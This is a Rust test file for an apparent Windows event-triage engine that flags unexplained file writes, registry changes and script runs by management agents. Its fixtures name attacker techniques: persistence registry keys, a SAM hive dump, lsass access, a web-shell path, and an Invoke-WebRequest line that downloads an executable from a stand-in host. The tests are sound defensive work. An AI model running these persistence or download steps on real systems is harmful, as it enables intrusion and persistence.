//! A known process that writes, asks Windows to start, or runs what nobody knows is not closed on; and an innocent is.

use serde_json::{Value, json};

use super::tests::{
    FOLDER, GUID, HOST, PARENT, POWERSHELL, SCRIPT, SENSOR, assert_unexplained, of, quiet, run_by_agent,
};
use super::tests::{sysmon, with};
use crate::domain::event::{Event, SYSMON};
use crate::domain::obstacle::Obstacle;
use crate::fixtures::event;

const DAY: i64 = 86_400;
const OTHER: &str = "{0a1b2c3d-0001-0002-0901-000000000700}";
const FOREIGN: &str = "C:\\Tools\\a.exe";

fn assert_says(found: &[Obstacle], what: &str) {
    assert!(found.len() == 1 && found[0].says().contains(what), "{what}: {found:?}");
}

fn file(path: &str) -> Value {
    json!({"ProcessGuid": GUID, "Image": POWERSHELL, "TargetFilename": path})
}

fn value(path: &str, details: &str) -> Value {
    json!({"ProcessGuid": GUID, "Image": POWERSHELL, "EventType": "SetValue", "TargetObject": path, "Details": details})
}

#[tokio::test]
async fn whatever_the_process_writes_and_nobody_declared_is_not_explained() {
    for path in [
        "C:\\inetpub\\wwwroot\\x.aspx",
        "C:\\Users\\Public\\a.exe",
        "C:\\Windows\\System32\\a.dll",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\profile.ps1",
        "C:\\Windows\\System32\\Tasks\\Upd",
        "C:\\Windows\\System32\\wbem\\x.mof",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "\\\\corp.example\\SYSVOL\\corp.example\\Policies\\{1}\\Machine\\Scripts\\Startup\\a.ps1",
        "C:\\Windows\\Temp\\sam.hiv",
        "C:\\Windows\\Temp\\ab1cdefg.cmdline",
        "C:\\a.txt",
    ] {
        assert_unexplained(sysmon("deed", 103, 11, file(path))).await;
        assert_says(&with(sysmon("deed", 103, 11, file(path))).await, "wrote a file");
    }
    for (path, details) in [
        ("HKLM\\SOFTWARE\\Classes\\CLSID\\{0a1b}\\InprocServer32\\(Default)", "C:\\Users\\Public\\a.dll"),
        ("HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls\\x", "C:\\Users\\Public\\a.dll"),
        ("HKLM\\System\\CurrentControlSet\\Control\\Print\\Monitors\\x\\Driver", "a.dll"),
        ("HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\x\\DllName", "C:\\a.dll"),
        ("HKLM\\SOFTWARE\\Microsoft\\NetSh\\x", "C:\\a.dll"),
        ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Upd\\Id", "{x}"),
        ("HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)"),
        ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\a\\b", "DWORD (0x00000000)"),
        ("HKLM\\SOFTWARE\\Vendor\\Agent\\LastRun", "DWORD (0x00000001)"),
    ] {
        assert_unexplained(sysmon("deed", 103, 13, value(path, details))).await;
    }
    let opened = "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\CA";
    for (code, more) in [
        (12, json!({"EventType": "DeleteKey", "TargetObject": opened})),
        (12, json!({"TargetObject": opened})),
        (14, json!({"EventType": "RenameKey", "TargetObject": "HKLM\\SOFTWARE\\a"})),
        (15, json!({"TargetFilename": "C:\\Windows\\Temp\\a.txt:b"})),
        (17, json!({"PipeName": "\\a-1234-server"})),
        (18, json!({"PipeName": "\\svcctl"})),
        (23, json!({"TargetFilename": "C:\\Windows\\Temp\\a.exe"})),
    ] {
        let mut data = json!({"ProcessGuid": GUID, "Image": POWERSHELL});
        more.as_object().expect("an object").iter().for_each(|(name, value)| data[name] = value.clone());
        assert_unexplained(sysmon("deed", 103, code, data)).await;
    }
}

#[tokio::test]
async fn many_writes_are_counted_and_not_all_named() {
    let writes: Vec<Event> =
        (0..40).map(|n| sysmon(&format!("w{n}"), 103, 11, file(&format!("C:\\Users\\a\\{n}.docx.x")))).collect();
    let found = of([quiet(), writes].concat()).await;
    assert!(found.len() == 6 && found[5].says().contains("35 more"), "{found:?}");
}

#[tokio::test]
async fn what_powershell_writes_by_itself_stands_against_nothing() {
    let profile = "C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\Microsoft";
    let probe = "C:\\Windows\\SystemTemp\\__PSScriptPolicyTest_ab1cdefg.h2j.ps1";
    let compiler = json!({"Image": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "ProcessGuid": OTHER,
        "ParentProcessGuid": GUID, "ParentProcessId": "4172"});
    let compiled = |path: &str| json!({"ProcessGuid": OTHER, "Image": compiler["Image"], "TargetFilename": path});
    let key = |path: &str| json!({"ProcessGuid": GUID, "EventType": "CreateKey", "TargetObject": path});
    let own = vec![
        sysmon("w1", 101, 11, file(probe)),
        sysmon("w2", 101, 23, file(probe)),
        sysmon("w3", 101, 11, file(&format!("{profile}\\Windows\\PowerShell\\StartupProfileData-NonInteractive"))),
        sysmon("w4", 101, 11, file("C:\\Windows\\Temp\\a1b2c3d4")),
        sysmon("w5", 101, 11, file("C:\\Windows\\Temp\\a1b2c3d4\\a1b2c3d4.0.cs")),
        sysmon("w6", 101, 1, compiler.clone()),
        sysmon("w7", 102, 23, file("C:\\Windows\\Temp\\a1b2c3d4\\a1b2c3d4.dll")),
        sysmon("w8", 109, 11, file(&format!("{profile}\\CLR_v4.0\\UsageLogs\\powershell.exe.log"))),
        sysmon("w9", 101, 12, key("HKU\\.DEFAULT\\Software\\Microsoft\\SystemCertificates\\CA\\CRLs")),
        sysmon(
            "w10",
            101,
            17,
            json!({"ProcessGuid": GUID, "PipeName": "\\PSHost.133000000000000000.4172.DefaultAppDomain.powershell"}),
        ),
        sysmon("w11", 104, 11, file(&format!("{FOLDER}result.json"))),
        sysmon("w12", 102, 11, compiled("C:\\Windows\\Temp\\a1b2c3d4\\a1b2c3d4.dll")),
    ];
    assert_eq!(of([quiet(), own.clone()].concat()).await, []);
    let elsewhere = sysmon("elsewhere", 102, 11, compiled("C:\\Users\\Public\\a.dll"));
    assert_says(&of([quiet(), own.clone(), vec![elsewhere]].concat()).await, "its csc.exe wrote a file");
    // Its name is borrowed if somebody runs it.
    let run =
        json!({"Image": POWERSHELL, "ProcessGuid": "{9}", "CommandLine": format!("powershell.exe -File {probe}")});
    assert_says(
        &of([quiet(), own, vec![sysmon("run", 9_000, 1, run)]].concat()).await,
        "named like PowerShell's probe",
    );
    let many = (0..5).map(|n| {
        let probe = format!("C:\\Windows\\Temp\\__PSScriptPolicyTest_ab1cdef{n}.h2j.ps1");
        sysmon(&format!("p{n}"), 101, 11, file(&probe))
    });
    assert_says(&of([quiet(), many.collect()].concat()).await, "more files that are named like PowerShell's probes");
}

/// A tool that an agent runs, which writes this now, and wrote that on three machines and days before.
fn writing(now: &str, before: &str) -> Vec<Event> {
    let plain = "tool.exe /check";
    let mut events = run_by_agent(plain, &[("A", plain), ("B", plain), ("C", plain)]);
    let write = |process: &str, path: &str| json!({"ProcessGuid": process, "Image": "C:\\Program Files\\Vendor\\tool.exe", "TargetFilename": path});
    events.push(sysmon("deed", 103, 11, write(GUID, now)));
    for (number, host) in ["A", "B", "C"].into_iter().enumerate() {
        let at = 5 - DAY * (20 - 5 * i64::try_from(number).expect("few"));
        let data = write(&format!("{{habit-{number}}}"), before);
        events.push(event(&format!("before-write-{number}"), at, host, (SYSMON, 11), data));
    }
    events
}

#[tokio::test]
async fn data_that_the_same_command_always_writes_is_a_habit() {
    let report = "C:\\ProgramData\\Vendor\\out\\report-2026.json";
    assert_eq!(of(writing(report, "C:\\ProgramData\\Vendor\\out\\report-2025.json")).await, []);
    assert_eq!(of(writing(report, report)).await, []);
    for path in
        ["C:\\ProgramData\\Vendor\\out\\a.exe", "C:\\Windows\\System32\\a.txt", "C:\\ProgramData\\Vendor\\out\\a"]
    {
        assert_says(&of(writing(path, path)).await, "wrote a file");
    }
    assert_says(&of(writing(report, "C:\\ProgramData\\Vendor\\other\\x.json")).await, "wrote a file");
    // Another command of the same program wrote it: what it is told to do decides what it writes.
    let mut other = writing(report, report);
    for event in other.iter_mut().filter(|event| event.id.as_str().starts_with("before-write")) {
        event.document["winlog"]["event_data"]["ProcessGuid"] = json!("{another}");
    }
    assert_says(&of(other).await, "wrote a file");
}

#[tokio::test]
async fn what_only_the_security_log_tells_of_the_process_is_not_explained() {
    let security = |code: u32, data: Value| event("deed", 103, HOST, ("Security", code), data);
    let object = |kind: &str, name: &str, mask: &str| json!({"ProcessId": "0x104c", "ProcessName": POWERSHELL, "ObjectType": kind, "ObjectName": name, "AccessMask": mask});
    for more in [
        security(4657, json!({"ProcessId": "0x104C", "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\a"})),
        security(4663, object("File", "C:\\Users\\Public\\a.exe", "0x2")),
        security(4663, object("Process", "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe", "0x10")),
        security(4648, json!({"ProcessId": "0x104c", "TargetServerName": "SRV-1"})),
        security(5156, json!({"ProcessID": "4172", "Application": POWERSHELL, "DestAddress": "192.0.2.1"})),
        security(4698, json!({"ClientProcessId": "4172", "TaskName": "\\Upd"})),
    ] {
        assert_unexplained(more).await;
    }
    for innocent in [
        security(4663, object("File", "C:\\Windows\\Temp\\a.txt", "0x1")),
        security(4663, object("File", "C:\\Windows\\Temp\\__PSScriptPolicyTest_ab1cdefg.h2j.ps1", "0x10000")),
        security(4657, json!({"ProcessId": "0x1104c", "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\a"})),
        // Its number was another's before.
        event(
            "deed",
            20,
            HOST,
            ("Security", 4657),
            json!({"ProcessId": "0x104c", "ProcessName": FOREIGN, "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\a"}),
        ),
    ] {
        assert_eq!(with(innocent).await, []);
    }
}

fn hosted(host: &str, image: &str, command: &str, user: &str) -> Value {
    json!({"Image": image, "CommandLine": command, "User": user, "ProcessGuid": OTHER, "ProcessId": "999",
        "ParentImage": host, "ParentProcessGuid": "{2}", "ParentProcessId": "800"})
}

#[tokio::test]
async fn a_program_that_windows_starts_for_somebody_meanwhile_is_not_explained() {
    let wmi = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    let system = "NT AUTHORITY\\SYSTEM";
    let stranger = |host: &str| hosted(host, "C:\\Users\\Public\\a.exe", "a.exe", system);
    for host in [wmi, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe"] {
        assert_unexplained(sysmon("deed", 103, 1, stranger(host))).await;
    }
    let shell = hosted(wmi, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c a", system);
    assert_unexplained(sysmon("deed", 103, 1, shell.clone())).await;
    let everyday =
        hosted("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", system);
    assert_eq!(with(sysmon("deed", 103, 1, everyday)).await, []);
    let of_person = hosted(wmi, "C:\\Users\\Public\\a.exe", "a.exe", "CORP\\a.user");
    assert_eq!(with(sysmon("deed", 103, 1, of_person)).await, []);
    assert_eq!(with(sysmon("deed", 4_000, 1, stranger(wmi))).await, []);
    // What is always started so is nobody's errand.
    let mut usual = vec![sysmon("deed", 103, 1, shell.clone())];
    for (host, day) in [("A", 12), ("B", 9), ("C", 5)] {
        let mut data = shell.clone();
        data["ProcessGuid"] = json!(format!("{{usual-{host}}}"));
        usual.push(event(&format!("usual-{host}"), -DAY * day, host, (SYSMON, 1), data));
    }
    assert_eq!(of([quiet(), usual].concat()).await, []);
}

#[tokio::test]
async fn a_foreign_writer_of_the_script_is_found_however_long_ago() {
    for file in [
        format!("{FOLDER}{SCRIPT}"),
        format!("C:\\Users\\Public\\{SCRIPT}"),
        format!("{FOLDER}{SCRIPT}::$DATA"),
        format!("{FOLDER}0A1B2C~1.PS1"),
    ] {
        for at in [-94_000, -20 * DAY, -300 * DAY] {
            let data = json!({"ProcessGuid": OTHER, "Image": FOREIGN, "TargetFilename": file});
            assert_unexplained(sysmon("foreign", at, 11, data)).await;
        }
    }
}

#[tokio::test]
async fn a_script_that_nobody_was_seen_to_make_needs_pinned_content() {
    let mut unmade = quiet();
    unmade.retain(|event| event.id.as_str() != "written");
    assert_says(&of(unmade.clone()).await, "may have been renamed into its place");
    let hash = "0a1b2c3d".repeat(8);
    unmade[0].document["winlog"]["event_data"]["CommandLine"] = json!(format!(
        "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& {{$calculatedHash = Microsoft.PowerShell.Utility\\Get-FileHash '{FOLDER}{SCRIPT}' -Algorithm SHA256;if (!($calculatedHash.Hash -eq '{hash}')) {{ exit 323;}}; . '{FOLDER}{SCRIPT}'}}\""
    ));
    assert_eq!(of(unmade).await, []);
    // An earlier script of the agent is not this one.
    let mut other = quiet();
    other.retain(|event| event.id.as_str() != "written");
    let data = json!({"ProcessGuid": PARENT, "Image": SENSOR, "TargetFilename": format!("{FOLDER}ffff2c3d4e5f.ps1")});
    other.push(sysmon("earlier", 99, 11, data));
    assert_says(&of(other).await, "may have been renamed into its place");
}

#[tokio::test]
async fn an_installed_script_may_be_written_by_its_installer_long_ago_and_by_nobody_else() {
    let command = "tool.exe -File \"C:\\Program Files\\Vendor\\check.ps1\"";
    let written = |image: &str, file: &str, at: i64| {
        let data = json!({"ProcessGuid": OTHER, "Image": image, "TargetFilename": file});
        let run = run_by_agent(command, &[("A", command), ("B", command), ("C", command)]);
        [run, vec![sysmon("w", at, 11, data)]].concat()
    };
    let (here, elsewhere) = ("C:\\Program Files\\Vendor\\check.ps1", "C:\\Projects\\check.ps1");
    let installer = "C:\\Windows\\System32\\msiexec.exe";
    assert_eq!(of(written(installer, here, -10 * DAY)).await, []);
    assert_says(&of(written(installer, here, -3 * DAY)).await, "another program");
    assert_says(&of(written(FOREIGN, here, -10 * DAY)).await, "another program");
    assert_eq!(of(written(FOREIGN, elsewhere, -10 * DAY)).await, []);
    assert_says(&of(written(FOREIGN, elsewhere, 40)).await, "another program");
}

const AGENT: &str = "C:\\Windows\\CCM\\CcmExec.exe";
const FOLDER_OF_AGENT: &str = "C:\\Windows\\CCM\\SystemTemp\\";
const CONTENT: &str = "Get-CimInstance Win32_OperatingSystem | Select-Object Version";

/// A part of what a PowerShell of this machine said.
fn block(id: &str, at: i64, host: &str, script: &str, text: &str) -> Event {
    let data = json!({"ScriptBlockText": text, "ScriptBlockId": id, "Path": script, "MessageNumber": "1",
        "MessageTotal": "1"});
    let mut block = event(id, at, host, ("Microsoft-Windows-PowerShell/Operational", 4104), data);
    block.document["winlog"]["process"] = json!({"pid": 4172});
    block
}

/// The management agent runs a script that says this, and did so on three machines and days before.
fn agents(text: &str) -> Vec<Event> {
    let script = |name: &str| format!("{FOLDER_OF_AGENT}{name}-0001-4002-8003-000000000007.ps1");
    let command = format!(
        "\"{POWERSHELL}\" -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass \"& '{}'\"",
        script("0a1b2c3d")
    );
    let mut events = quiet();
    for (name, value) in [("CommandLine", command.as_str()), ("ParentImage", AGENT)] {
        events[0].document["winlog"]["event_data"][name] = json!(value);
    }
    events.retain(|event| event.id.as_str() != "written");
    let made = json!({"ProcessGuid": PARENT, "Image": AGENT, "TargetFilename": script("0a1b2c3d")});
    events.push(sysmon("written", 99, 11, made));
    events.push(block("now", 103, HOST, &script("0a1b2c3d"), text));
    for (host, day, name) in [("A", 12, "1a1b2c3d"), ("B", 9, "2a1b2c3d"), ("C", 5, "3a1b2c3d")] {
        events.push(block(&format!("before-{host}"), -DAY * day, host, &script(name), CONTENT));
    }
    events
}

#[tokio::test]
async fn an_agents_unsigned_script_is_known_by_what_it_says() {
    assert_eq!(of(agents(CONTENT)).await, []);
    let new = of(agents("Invoke-WebRequest http://192.0.2.1/a -OutFile C:\\a.exe")).await;
    assert!(matches!(new.as_slice(), [Obstacle::Unexplained(says)] if says.contains("event now")), "{new:?}");

    let without = |id: &str| agents(CONTENT).into_iter().filter(|event| event.id.as_str() != id).collect::<Vec<_>>();
    assert_says(&of(without("now")).await, "is not in the log (PowerShell 4104)");
    assert_says(&of(without("before-A")).await, "three machines and three days");
    // Its making need not be logged if its content is known.
    assert_eq!(of(without("written")).await, []);

    let mut part = agents(CONTENT);
    let now = part.iter_mut().find(|event| event.id.as_str() == "now").expect("it is there");
    now.document["winlog"]["event_data"]["MessageTotal"] = json!("2");
    assert_says(&of(part).await, "is not in the log (PowerShell 4104)");

    // A known script that runs what it fetched.
    let fetched = block("fetched", 104, HOST, "-", "Start-Process C:\\Users\\Public\\a.exe");
    let found = of([agents(CONTENT), vec![fetched]].concat()).await;
    assert!(matches!(found.as_slice(), [Obstacle::Unexplained(says)] if says.contains("event fetched")), "{found:?}");

    // Elsewhere than in the agent's folder anybody may have run it.
    let mut elsewhere = agents(CONTENT);
    for event in elsewhere.iter_mut().filter(|event| event.id.as_str().starts_with("before-") && event.code == 4104) {
        event.document["winlog"]["event_data"]["Path"] = json!("C:\\Users\\Public\\a.ps1");
    }
    assert_says(&of(elsewhere).await, "three machines and three days");
}

#[tokio::test]
async fn an_agents_unsigned_script_that_writes_a_program_is_not_closed_on() {
    assert_unexplained_of(sysmon("deed", 104, 11, file("C:\\Users\\Public\\a.exe"))).await;
    assert_eq!(
        of([agents(CONTENT), vec![sysmon("log", 104, 11, file("C:\\Windows\\CCM\\Logs\\x.log"))]].concat()).await,
        []
    );
}

async fn assert_unexplained_of(more: Event) {
    assert_says(&of([agents(CONTENT), vec![more]].concat()).await, "wrote a file");
}

#[tokio::test]
async fn an_agents_signed_script_is_held_to_its_signature_and_its_maker() {
    let agent = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe";
    let script = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\0a1b2c3d-0001.ps1";
    let of_policy = |policy: &str, maker: &str| {
        let command = format!("\"{POWERSHELL}\" -NoProfile -ExecutionPolicy {policy} -File \"{script}\"");
        let mut events = quiet();
        for (name, value) in [("CommandLine", command.as_str()), ("ParentImage", agent)] {
            events[0].document["winlog"]["event_data"][name] = json!(value);
        }
        events.retain(|event| event.id.as_str() != "written");
        let made = json!({"ProcessGuid": PARENT, "Image": maker, "TargetFilename": script});
        events.push(sysmon("written", 99, 11, made));
        events
    };
    assert_eq!(of(of_policy("AllSigned", agent)).await, []);
    assert_says(&of(of_policy("Bypass", agent)).await, "without a check of its signature");
    let found = of(of_policy("AllSigned", FOREIGN)).await;
    assert!(found.iter().any(|obstacle| obstacle.says().contains("another program")), "{found:?}");
}
